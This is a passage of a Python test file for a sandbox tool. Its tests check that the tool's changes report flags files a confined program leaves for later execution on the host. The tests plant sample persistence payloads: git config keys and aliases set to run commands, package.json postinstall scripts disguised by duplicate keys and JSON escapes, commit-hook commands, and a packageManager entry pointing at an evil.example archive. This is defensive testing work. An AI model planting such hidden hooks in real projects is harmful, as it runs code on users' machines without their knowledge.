    `[pager] log = CMD` (remote.origin.uploadpack, a merge driver, ...) to
    its config, in place: the folder .git is unchanged, and the report
    read the config for a dozen keys only, so nothing was named; the
    user's next git log (fetch, merge, ...) there ran CMD."""
    repo = work / "app" / ".git"
    (repo / "objects").mkdir(parents=True)
    (repo / "refs").mkdir()
    (repo / "HEAD").write_text("ref: refs/heads/main\n")
    (repo / "config").write_text("[core]\n\tbare = false\n")
    ctime = os.stat(repo).st_ctime_ns
    while time.clock_gettime_ns(getattr(time, "CLOCK_REALTIME_COARSE", 5)) \
            <= ctime:
        pass
    lines = "".join(f"[{s}]\n\t{k} = !touch /tmp/pwned\n"
                    for s, k in CONFIG_KEYS)
    cp = lnk.run("--write", work, "--name", "cfgkeys", "--", "/bin/sh", "-c",
                 f"printf '%s' '{lines}' >> '{repo}/config'")
    assert cp.returncode == 0, cp.stderr
    flags = changes_flags(lnk, "cfgkeys")
    assert "app/.git" not in flags, flags  # the folder did not change
    why = flags.get("app/.git/config", "")
    for s, k in CONFIG_KEYS:
        sec = s.split()[0]
        assert f"{sec}." in why and f"{k.lower()}" in why.lower(), \
            (s, k, why)


def test_repository_whose_objects_are_elsewhere_flagged(lnk, work):
    """Invariant 8 (what runs outside later), promise: the changes report names
    every file the program left that a program on the host runs or trusts
    later.

    Threat: git takes a folder holding HEAD and a `commondir` file for a
    repository, with its objects, refs and config in the folder commondir
    names. The program leaves x/HEAD, x/commondir (../y) and y/config with
    `alias.st = !CMD` (the repository's alias wins over the user's own
    `st`); the report looked for a bare repository only where HEAD,
    objects and refs lie together, and named nothing. The user's next
    `git st` in x ran CMD."""
    cp = lnk.run("--write", work, "--name", "common", "--", "/bin/sh", "-c",
                 "mkdir -p y/objects y/refs x && "
                 "printf '[alias]\\n\\tst = !touch /tmp/pwned\\n' > y/config"
                 " && echo 'ref: refs/heads/main' > x/HEAD && "
                 "echo ../y > x/commondir", cwd=work)
    assert cp.returncode == 0, cp.stderr
    flags = changes_flags(lnk, "common")
    assert "x/HEAD" in flags, (flags, cp.stderr)
    assert "bare repository" in flags["x/HEAD"]


BTRFS = r"""
set -e
truncate -s 200M '{img}'
mkfs.btrfs -q '{img}' >/dev/null
mount -o loop '{img}' '{mnt}'
trap "cd /; umount '{mnt}'" EXIT
mkdir '{mnt}/proj'
btrfs -q subvolume create '{mnt}/proj/sub'
sleep 0.02
cd '{mnt}/proj'
'{lnk}' sandbox run --write . --name btrfs -- /bin/sh -c '
    btrfs subvolume create .git 2>&1 || true
    mkdir -p sub/repo/.git
    printf "[core]\n\tfsmonitor = touch /tmp/pwned\n" > sub/repo/.git/config'
test ! -e .git
"""


def test_btrfs_subvolume_neither_made_nor_skipped(lnk, home, tmp_path):
    """Invariant 8 (what runs outside later), promise: the changes report names
    every file the program left that a program on the host runs or trusts
    later.

    Threat, on btrfs (Fedora's and openSUSE's default): what the program
    leaves in an existing subvolume of its write folder (another device
    number, but no mount: the program writes there) was skipped by the
    walk; and the program must not make the top's .git as a subvolume
    (invariant 2, test_inv2_writes.py::test_subvolume_calls_refused)."""
    if not IS_ROOT:
        pytest.skip("mounting a btrfs image needs root; "
                    "test_inv2_writes.py::test_subvolume_calls_refused covers "
                    "the user")
    if not shutil.which("mkfs.btrfs") or not shutil.which("btrfs"):
        pytest.skip("btrfs-progs is not installed")
    mnt = tmp_path / "mnt"
    mnt.mkdir()
    cp = subprocess.run(
        ["unshare", "-m", "--propagation", "private", "/bin/sh", "-c",
         BTRFS.format(img=tmp_path / "bt.img", mnt=mnt, lnk=lnk.bin)],
        env=lnk.env(), capture_output=True, text=True, timeout=120)
    assert cp.returncode == 0, (cp.stdout, cp.stderr)
    flags = changes_flags(lnk, "btrfs")
    assert "sub/repo/.git" in flags, (flags, cp.stderr)


def test_folder_that_can_be_listed_but_not_searched_is_named(lnk, work):
    """Invariant 8 (what runs outside later), promise: the changes report names
    every file the program left that a program on the host runs or trusts
    later.

    Threat: the program leaves a repository in sub/ and makes sub readable
    but not searchable (chmod 0400): as a user, lnk lists its names but
    cannot look at any of them, and the walk took each for gone, so
    nothing was named (a folder closed whole, chmod 0, is). The user's
    `chmod 755 sub; cd sub` then runs its core.fsmonitor. As root lnk
    looks inside and names the repository itself."""
    cp = lnk.run("--write", work, "--name", "noexec", "--", "/bin/sh", "-c",
                 "mkdir -p sub/.git && echo 'ref: x' > sub/.git/HEAD && "
                 "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > "
                 "sub/.git/config && chmod 0400 sub", cwd=work)
    try:
        assert cp.returncode == 0, cp.stderr
        flags = changes_flags(lnk, "noexec")
        assert "sub" in flags or "sub/.git" in flags, (flags, cp.stderr)
    finally:
        (work / "sub").chmod(0o755)  # so pytest can remove it


# package.json spelled so a reader that looks for the bytes "scripts" and
# reads the first object after them misses what npm runs: the key twice
# (npm keeps the last), the key written with a JSON escape (npm decodes
# it), the word first as a value; the same for packageManager.
HIDDEN_SCRIPTS = {
    "twice": '{"scripts":{},"scripts":{"postinstall":"touch ~/pwned"}}',
    "escaped": '{"name":"x","scr\\u0069pts":{"postinstall":"touch ~/pwned"}}',
    "value-first": '{"a":"scripts","b":{},"scripts":{"postinstall":"id"}}',
    "manager-escaped": '{"name":"x","package\\u004danager":'
                       '"yarn@https://evil.example/yarn.tgz"}',
}


@pytest.mark.parametrize("how", sorted(HIDDEN_SCRIPTS))
def test_package_json_scripts_spelled_to_hide_flagged(lnk, work, how):
    """Invariant 8 (what runs outside later), promise: the changes report names
    every file the program left that a program on the host runs or trusts
    later.

    Threat: the program writes a package.json whose postinstall npm runs
    at the user's next `npm install`, spelled so the report's scan of the
    bytes "scripts" misses it: `"scripts":{}` then the real one (npm
    keeps the last key), `"scr\u0069pts"` (npm decodes the escape), the
    word first as another key's value. The report said "changed 1 file"
    and flagged nothing."""
    (work / "doc.json").write_text(HIDDEN_SCRIPTS[how])
    cp = lnk.run("--write", work, "--name", "hid", "--", "/bin/sh", "-c",
                 "cat doc.json > package.json", cwd=work)
    assert cp.returncode == 0, cp.stderr
    flags = changes_flags(lnk, "hid")
    assert "package.json" in flags, (flags, cp.stderr)


# Commands a project's commit hooks run, named in files the kept hook
# reads: husky's hook (kept) runs lint-staged, whose config is a
# package.json key or a .lintstagedrc; husky 4, simple-git-hooks, yorkie
# and pre-commit (npm) read their hooks from package.json.
COMMIT_COMMANDS = {
    "package.json": '{"name":"a","lint-staged":{"*":"touch ~/pwned"}}',
    ".lintstagedrc": '{"*": "touch ~/pwned"}',
    ".lintstagedrc.json": '{"*": "touch ~/pwned"}',
    ".lintstagedrc.yaml": '"*": touch ~/pwned',
    ".lintstagedrc.yml": '"*": touch ~/pwned',
}
HOOK_KEYS = ["husky", "simple-git-hooks", "gitHooks", "pre-commit"]


@pytest.mark.parametrize("key", HOOK_KEYS + ["files"])
def test_commit_commands_left_are_flagged(lnk, work, key):
    """Invariant 8 (what runs outside later), promise: the changes report names
    every file the program left that a program on the host runs or trusts
    later.

    Threat: the project's commit hook is kept read only, but what it runs
    is named elsewhere: lint-staged's config (a package.json key, a
    .lintstagedrc), husky 4's or simple-git-hooks' hooks in package.json.
    The program adds a command there; the user's next `git commit` runs it
    outside. A package.json without scripts was not flagged at all."""
    if key == "files":
        docs = COMMIT_COMMANDS
    else:
        docs = {"package.json":
                f'{{"name":"a","{key}":{{"pre-commit":"touch ~/pwned"}}}}'}
    for name, text in docs.items():
        (work / f"{name}.new").write_text(text)
    script = "; ".join(f"cat '{n}.new' > '{n}'" for n in docs)
    cp = lnk.run("--write", work, "--name", "hooks", "--", "/bin/sh", "-c",
                 f"cd '{work}' && {script}")
    assert cp.returncode == 0, cp.stderr
    flags = changes_flags(lnk, "hooks")
    missing = [n for n in docs if n not in flags]
    assert not missing, (missing, flags, cp.stderr)
    assert "commit" in flags["package.json"], flags


def test_package_json_naming_a_package_manager_flagged(lnk, work):
    """Invariant 8 (what runs outside later), promise: the changes report names
    every file the program left that a program on the host runs or trusts
    later.

    Threat: a package.json without scripts but with `"packageManager":
    "yarn@https://host/x.tgz"`: corepack downloads and runs that archive
    as the user's next yarn (or pnpm) in the folder. The report read a
    package.json for its scripts only, and named nothing."""
    (work / "package.json").write_text('{"name":"app"}\n')
    cp = lnk.run("--write", work, "--name", "pm", "--", "/bin/sh", "-c",
                 "printf '%s\\n' '{\"name\":\"app\",\"packageManager\":"
                 "\"yarn@https://evil.example/yarn.tgz\"}' > package.json",
                 cwd=work)
    assert cp.returncode == 0, cp.stderr
    flags = changes_flags(lnk, "pm")
    assert "packageManager" in flags.get("package.json", ""), flags
